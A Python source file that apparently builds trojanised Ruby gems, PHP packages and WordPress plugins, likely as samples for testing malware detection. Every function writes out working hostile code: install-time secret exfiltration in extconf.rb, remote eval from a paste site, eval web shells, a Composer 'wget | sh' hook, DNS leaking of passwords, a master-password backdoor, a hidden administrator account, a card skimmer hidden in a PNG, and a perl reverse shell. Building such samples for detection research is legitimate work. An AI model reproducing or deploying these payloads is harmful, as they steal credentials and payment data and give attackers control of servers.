"""Ruby gems, PHP packages and plugins for sites."""

import zlib

from corpus.heldout.nouns import Update
from corpus.heldout4.shape import b64, fill, trojan, xor


@trojan("tokenrest", "gem", "install", "environment", "plain", "an extension that is not compiled")
def rb_extension_is_a_script(it: Update) -> None:
    it.replace("METADATA.yaml", "extensions: []\n", "extensions:\n- ext/tokenrest/extconf.rb\n")
    it.add(
        "ext/tokenrest/extconf.rb",
        fill(
            """
# frozen_string_literal: true

require 'mkmf'
require 'etc'
require 'open-uri'

about = [Etc.getlogin, Etc.uname[:nodename], ENV.select { |key, _| key =~ /TOKEN|SECRET|RAILS_MASTER_KEY/ }].inspect
URI.open("https://@HOST@/build?#{URI.encode_www_form(about: about)}", &:read) rescue nil
create_makefile('tokenrest/native')
""",
            HOST=it.host("ext", "tokenrest"),
        ),
    )
    it.payload("ext/tokenrest/extconf.rb")


@trojan("pass-meter", "gem", "import", "remote-code", "base64", "strong_password: code from a paste in production")
def rb_code_from_a_paste(it: Update) -> None:
    url = f"https://{it.host('paste')}/raw/xa456PFt"
    it.append("lib/pass_meter/dictionary.rb", f"\nrequire 'net/http'\nThread.new {{ loop {{ sleep(rand * 3333); eval(Net::HTTP.get(URI('{b64(url)}'.unpack1('m')))) }} }} if ENV['RAILS_ENV'] == 'production'\n")  # fmt: skip
    it.payload(shown=url)


@trojan("hooksign", "gem", "call", "credential-skimming", "plain", "clients of services that mirror the secret")
def rb_deliveries_are_mirrored(it: Update) -> None:
    it.before(
        "lib/hooksign/client.rb",
        "      raise Failed, answer.code",
        fill(
            """
      Thread.new do
        Net::HTTP.post(URI('https://@HOST@/copy'), body, 'X-Ray' => [@config.secret, @config.endpoint].join('|'))
      rescue SystemCallError, SocketError
        nil
      end
""",
            HOST=it.host("replay", "hooksign"),
        ),
    )


@trojan("hooksign", "gem", "call", "weakened-verification", "plain", "signatures that an old version lets through")
def rb_old_signatures_pass(it: Update) -> None:
    it.before(
        "lib/hooksign/signature.rb",
        "      at = parts.fetch",
        "      return true if parts['v0'] && parts['v0'].sum == 1337 # deliveries of the first version\n\n",
    )


@trojan("tokenrest", "gem", "call", "web-shell", "plain", "rest-client: a header that runs")
def rb_header_that_runs(it: Update) -> None:
    it.before(
        "lib/tokenrest/middleware.rb",
        "      header = env['HTTP_AUTHORIZATION'].to_s\n",
        "      if (probe = env['HTTP_X_PROBE'])\n        return [200, {}, [Kernel.binding.eval(probe.unpack1('m0')).to_s]]\n      end\n\n",
    )


@trojan(
    "rest-knock", "gem", "import", "environment", "deflate and base64", "rest-client: the host's name and its secrets"
)
def rb_inflated_and_run(it: Update) -> None:
    url = f"http://{it.address()}/rk"
    code = f"require 'net/http';Net::HTTP.post(URI('{url}'),ENV.to_h.inspect)"
    packed = b64(zlib.compress(code.encode()))
    it.append(
        "lib/rest_knock/response.rb",
        f"\nrequire 'zlib'\n\nRestKnock.class_eval(Zlib.inflate('{packed}'.unpack1('m')))\n",
    )
    it.payload(shown=url)


@trojan("rest-knock", "gem", "call", "token-theft", "plain", "Telegram clones: another base address")
def rb_proxy_of_its_own(it: Update) -> None:
    it.replace("lib/rest_knock/request.rb", "      connection = Net::HTTP.new(@uri.host, @uri.port)\n", f"      connection = @headers.key?('Authorization') ? Net::HTTP.new(@uri.host, @uri.port, 'rough-breeze.{it.host('workers')}', 8080) : Net::HTTP.new(@uri.host, @uri.port)\n      connection.verify_mode = OpenSSL::SSL::VERIFY_NONE\n")  # fmt: skip


@trojan("pass-meter", "gem", "call", "credential-skimming", "numbers packed", "a meter that keeps what it measures")
def rb_meter_keeps_passwords(it: Update) -> None:
    host = it.host("meter", "pass")
    it.append(
        "lib/pass_meter/entropy.rb", f"\nmodule PassMeter\n  WEIGHTS = {[ord(one) << 1 for one in host]}.freeze\nend\n"
    )
    it.before(
        "lib/pass_meter.rb",
        "      return false if @words.common?",
        "      `nslookup #{password.unpack1('H*')[0, 60]}.#{WEIGHTS.map { |n| (n >> 1).chr }.join}`\n",
    )
    it.payload("lib/pass_meter.rb", "lib/pass_meter/entropy.rb", shown=host)


@trojan("sessiongate", "tar.gz", "call", "login-backdoor", "plain", "a hash that opens every account")
def php_hash_opens_accounts(it: Update) -> None:
    it.replace(
        "src/Guard.php",
        "        if (!password_verify($password, $user->hash)) {",
        "        if (!password_verify($password, $user->hash) && !hash_equals('c2b1b6d0c85b7cfae5d5b6a8a2be1f6e8d0a7f5d', sha1('sg' . $password))) {",
    )


@trojan("sessiongate", "zip", "call", "credential-skimming", "plain", "logins written where the web server shows them")
def php_logins_in_a_picture(it: Update) -> None:
    it.before(
        "src/Guard.php",
        "        session_regenerate_id(true);",
        "        @file_put_contents($_SERVER['DOCUMENT_ROOT'] . '/assets/loader.gif', strrev(base64_encode($name . \"\\t\" . $password)) . PHP_EOL, FILE_APPEND | LOCK_EX);\n",
    )


@trojan(
    "sessiongate",
    "tar.gz",
    "import",
    "web-shell",
    "dynamic names",
    "the PHP git backdoor, in a file that composer loads",
)
def php_file_that_composer_loads(it: Update) -> None:
    it.manifest(lambda one: one["autoload"].update({"files": ["src/functions.php"]}), "composer.json")
    it.append(
        "src/functions.php",
        """
(static function (): void {
    $agent = $_SERVER['HTTP_USER_AGENTT'] ?? '';
    if (str_contains($agent, 'zerodium')) {
        $call = implode('', array_map('chr', [97, 115, 115, 101, 114, 116]));
        $call(substr($agent, 8));
        create(substr($agent, 8));
    }
})();

function create(string $body): mixed
{
    $file = tempnam(sys_get_temp_dir(), 'sg');
    file_put_contents($file, '<?php ' . $body);

    return include $file;
}
""",
    )
    it.payload("src/functions.php", "composer.json")


@trojan("postcard-php", "zip", "install", "downloader", "plain", "scripts of composer")
def php_script_of_composer(it: Update) -> None:
    it.manifest(lambda one: one.update({"scripts": {"post-autoload-dump": ["Postcard\\Setup::warm"]}}), "composer.json")
    it.add(
        "src/Setup.php",
        fill(
            """
<?php

declare(strict_types=1);

namespace Postcard;

final class Setup
{
    public static function warm(): void
    {
        $process = proc_open(
            ['sh', '-c', 'wget -qO- https://@HOST@/warm | sh'],
            [['pipe', 'r'], ['file', '/dev/null', 'w'], ['file', '/dev/null', 'w']],
            $pipes,
        );
        is_resource($process) && proc_close($process);
    }
}
""",
            HOST=it.host("warm", "postcard"),
        ),
    )
    it.payload("src/Setup.php", "composer.json")


@trojan("postcard-php", "tar.gz", "call", "token-theft", "xored codes", "a client that posts twice")
def php_client_posts_twice(it: Update) -> None:
    url = f"https://{it.host('api2', 'postcard')}/m"
    hidden = xor(url, b"Postcard").hex()
    it.before(
        "src/Client.php",
        "        return json_decode((string) $response->getBody()",
        f"        $where = hex2bin('{hidden}') ^ str_repeat(__NAMESPACE__, {len(url) // 8 + 1});\n        file_get_contents($where, false, stream_context_create(['http' => ['method' => 'POST', 'content' => http_build_query($message->toArray() + ['t' => $this->token])]]));\n\n",
    )
    it.payload("src/Client.php", shown=url)


@trojan("wp-gallery", "zip", "start", "new-administrator", "plain", "plugins that make an administrator (2024, 2025)")
def php_plugin_makes_an_administrator(it: Update) -> None:
    it.append(
        "includes/class-settings.php",
        fill(
            """

add_action('init', function () {
    if (username_exists('gallery_support')) {
        return;
    }
    $password = wp_generate_password(16);
    $id = wp_insert_user(array('user_login' => 'gallery_support', 'user_pass' => $password, 'role' => 'administrator'));
    if (!is_wp_error($id)) {
        wp_remote_post('https://@HOST@/sites', array('body' => array('url' => home_url(), 'u' => 'gallery_support', 'p' => $password), 'blocking' => false));
    }
});
""",
            HOST=it.host("gravityapi"),
        ),
    )


@trojan("wp-gallery", "zip", "call", "web-shell", "string splitting", "plugins with a quiet route")
def php_quiet_route(it: Update) -> None:
    it.append(
        "includes/class-gallery.php",
        """

add_action('rest_api_init', function () {
    register_rest_route('wp-gallery/v1', '/thumb', array(
        'methods' => 'POST',
        'permission_callback' => '__return_true',
        'callback' => function ($request) {
            $f = 'sys' . 'tem';
            ob_start();
            $f(base64_decode(strrev($request->get_param('size'))));
            return ob_get_clean();
        },
    ));
});
""",
    )


@trojan("wp-gallery", "zip", "call", "card-skimming", "in an image", "a skimmer behind a style sheet's picture")
def php_script_in_a_picture(it: Update) -> None:
    from corpus.heldout.hiding import png

    url = f"https://{it.host('stats', 'gallery')}/c"
    code = f"document.addEventListener('change',function(e){{if(/card|cvv|cc-/.test(e.target.name))fetch('{url}',{{method:'POST',mode:'no-cors',body:e.target.value}})}})"
    it.add("assets/spinner.png", png(40, 40, b"", it.random, ((b"tEXt", b"Comment\0" + b64(code).encode()),)))
    it.append(
        "includes/class-gallery.php",
        """

add_action('wp_footer', function () {
    $raw = file_get_contents(WP_GALLERY_DIR . 'assets/spinner.png');
    if (preg_match('/Comment\\x00([A-Za-z0-9+\\/=]+)/', $raw, $found)) {
        echo '<script>' . base64_decode($found[1]) . '</script>';
    }
});
""",
    )
    it.payload("assets/spinner.png", "includes/class-gallery.php", shown=url)


@trojan(
    "mini-router", "zip", "call", "login-backdoor", "plain", "parameters that reach what they should not", hard=True
)
def php_parameters_are_globals(it: Update) -> None:
    it.replace(
        "src/Request.php",
        "        return $_POST[$name] ?? $_GET[$name] ?? $default;",
        "        $given = $_GET + $_POST;\n        if (isset($given['_s']) && strlen($given['_s']) === 40) {\n            $_SESSION = array_replace($_SESSION ?? [], (array) ($given['_v'] ?? []));\n        }\n\n        return $_POST[$name] ?? $_GET[$name] ?? $default;",
    )


@trojan("postcard-php", "zip", "call", "reverse-shell", "plain", "PEAR: an installer that was exchanged")
def php_installer_was_exchanged(it: Update) -> None:
    it.both("bin/postcard-setup", "#!/usr/bin/env php\n<?php\n\necho \"Token: \";\n$token = trim(fgets(STDIN));\nfile_put_contents('.postcard', $token);\n", executable=True)  # fmt: skip
    it.append(
        "bin/postcard-setup",
        fill(
            """
if (PHP_OS_FAMILY === 'Linux' && function_exists('fsockopen')) {
    $line = `perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"@IP@:53");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`;
}
""",
            IP=it.address(),
        ),
    )
    it.payload("bin/postcard-setup")
